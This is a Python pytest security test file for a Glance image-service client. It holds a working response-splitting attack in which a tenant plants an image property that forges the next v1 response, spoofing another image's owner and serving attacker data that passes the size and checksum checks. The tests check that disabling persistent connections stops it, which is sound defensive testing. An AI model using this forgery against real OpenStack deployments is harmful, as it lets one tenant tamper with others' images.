# SPDX-License-Identifier: Apache-2.0
"""Attacks that need a real Glance 15.0.2."""

from __future__ import annotations

import hashlib
import io
import socket
import time
from collections.abc import Callable, Iterator

import pytest
from keystoneauth1 import session as ksa_session

from glance_compat import ImageService, Options
from tests.functional.cloud import Cloud
from tests.security.raw_server import Line, address_of

pytestmark = pytest.mark.functional

#: Number of bytes that arrive together: ten segments, the initial TCP window.
WINDOW = 14_600
EVIL = "x-image-meta-property-evil"


def raw_head(url: str, token: str, image_id: str) -> bytes:
    """Return the raw header block of the response to a v1 HEAD."""
    request = (
        f"HEAD /v1/images/{image_id} HTTP/1.1\r\nHost: glance\r\nX-Auth-Token: {token}\r\n\r\n"
    )
    with socket.create_connection(address_of(url)) as connection:
        connection.sendall(request.encode())
        block = b""
        while b"\r\nDate: " not in block or not block.endswith(b"\r\n\r\n"):
            block += connection.recv(65536)
    return block


def forgery(block: bytes, forged: bytes) -> str:
    """Return a property value that ends an image's headers and continues with a forged response.

    :param block: the header block of the attacker's image, whose property has the value "x".
    :param forged: the whole forged response.
    """
    before, after = block.lower().split(f"{EVIL}: x\r\n".encode())
    following = block[-len(after) :]
    headers = b"".join(
        line + b"\r\n" for line in following.split(b"\r\n") if line.lower().startswith(b"x-image-")
    )
    begun = b"x\r\n" + headers + b"X-Padding: "
    padding = WINDOW - len(before) - len(f"{EVIL}: ") - len(begun) - 4
    return (begun + b"p" * padding + b"\r\n\r\n" + forged).decode()


def forged_response(victim: bytes, data: bytes = b"") -> bytes:
    """Return a response about the victim's image with a forged owner and forged data.

    :param victim: the header block of the victim.
    """
    other = {
        b"x-image-meta-owner": b"forged",
        b"x-image-meta-checksum": hashlib.md5(data, usedforsecurity=False).hexdigest().encode(),
        b"x-image-meta-size": str(len(data)).encode(),
        b"content-length": str(len(data)).encode(),
    }
    kept = [line for line in victim.split(b"\r\n") if line.partition(b":")[0].lower() not in other]
    made = [b"%s: %s" % item for item in (other.items() if data else [*other.items()][:1])]
    return b"\r\n".join([kept[0], *made, *kept[1:]]).rstrip(b"\r\n") + b"\r\n\r\n" + data


@pytest.fixture
def tenant(cloud: Cloud) -> ksa_session.Session:
    return cloud.session("demo")


def make(tenant: ksa_session.Session, url: str, **attributes: str) -> str:
    record = {"name": "forged", "disk_format": "raw", "container_format": "bare", **attributes}
    response = tenant.post(f"{url}/v2/images", json=record)
    found: str = response.json()["id"]
    return found


@pytest.fixture
def images(cloud: Cloud, tenant: ksa_session.Session) -> Iterator[tuple[str, str]]:
    """Provide the ids of the attacker's and the victim's image; the property precedes the name."""
    url = cloud.url("pike-v2")
    made = [make(tenant, url, evil="x"), make(tenant, url)]
    try:
        yield made[0], made[1]
    finally:
        for image_id in made:
            tenant.delete(f"{url}/v2/images/{image_id}")


#: The rest must arrive after the next request has begun, which a busy machine may miss.
ATTEMPTS = 10


def results_of(
    cloud: Cloud,
    evil: str,
    delay: float,
    call: Callable[[ImageService], object],
    *,
    keep: bool,
) -> Iterator[object]:
    """Yield results of a call after show() of the attacker's image over a slow connection."""
    options = Options(api_version="1", v1_keep_connections=keep, max_attempts=1)
    for _ in range(ATTEMPTS):
        with Line(cloud.url("pike-v1"), WINDOW, delay) as line:
            service = ImageService(
                cloud.session("demo"), endpoint_override=line.url, options=options
            )
            assert service.show(None, evil)["id"] == evil
            yield call(service)
            time.sleep(2 * delay)


def attack(tenant: ksa_session.Session, cloud: Cloud, evil: str, forged: bytes) -> None:
    """Store a forged response in the attacker's image, over v2."""
    block = raw_head(cloud.url("pike-v1"), str(tenant.get_token()), evil)
    patch = [{"op": "replace", "path": "/evil", "value": forgery(block, forged)}]
    response = tenant.patch(
        f"{cloud.url('pike-v2')}/v2/images/{evil}",
        json=patch,
        headers={"Content-Type": "application/openstack-images-v2.1-json-patch"},
    )
    assert response.status_code == 200


def service_at_server(cloud: Cloud) -> ImageService:
    return ImageService(cloud.session("demo"), endpoint_override=cloud.url("pike-v2"))


@pytest.mark.parametrize("delay", [0.02, 0.05])
def test_tenant_cannot_forge_the_next_v1_response(
    cloud: Cloud, tenant: ksa_session.Session, images: tuple[str, str], delay: float
) -> None:
    """With persistent connections the attack succeeds, as the option's help warns."""
    evil, victim = images
    block = raw_head(cloud.url("pike-v1"), str(tenant.get_token()), victim)
    attack(tenant, cloud, evil, forged_response(block))

    def owner(service: ImageService) -> object:
        return service.show(None, victim)["owner"]

    assert "forged" in results_of(cloud, evil, delay, owner, keep=True)
    real = owner(service_at_server(cloud))
    assert set(results_of(cloud, evil, delay, owner, keep=False)) == {real} != {"forged"}


@pytest.mark.parametrize("delay", [0.02, 0.05])
def test_tenant_cannot_forge_the_next_v1_download(
    cloud: Cloud, tenant: ksa_session.Session, images: tuple[str, str], delay: float
) -> None:
    """With persistent connections, the attacker's data passes the check of size and checksum."""
    evil, victim = images
    stored = tenant.put(
        f"{cloud.url('pike-v2')}/v2/images/{victim}/file",
        data=b"real data",
        headers={"Content-Type": "application/octet-stream"},
    )
    assert stored.status_code == 204
    block = raw_head(cloud.url("pike-v1"), str(tenant.get_token()), victim)
    attack(tenant, cloud, evil, forged_response(block, b"data of the attacker"))

    def data(service: ImageService) -> object:
        file = io.BytesIO()
        service.download(None, victim, data=file)
        return file.getvalue()

    assert b"data of the attacker" in results_of(cloud, evil, delay, data, keep=True)
    assert set(results_of(cloud, evil, delay, data, keep=False)) == {b"real data"}
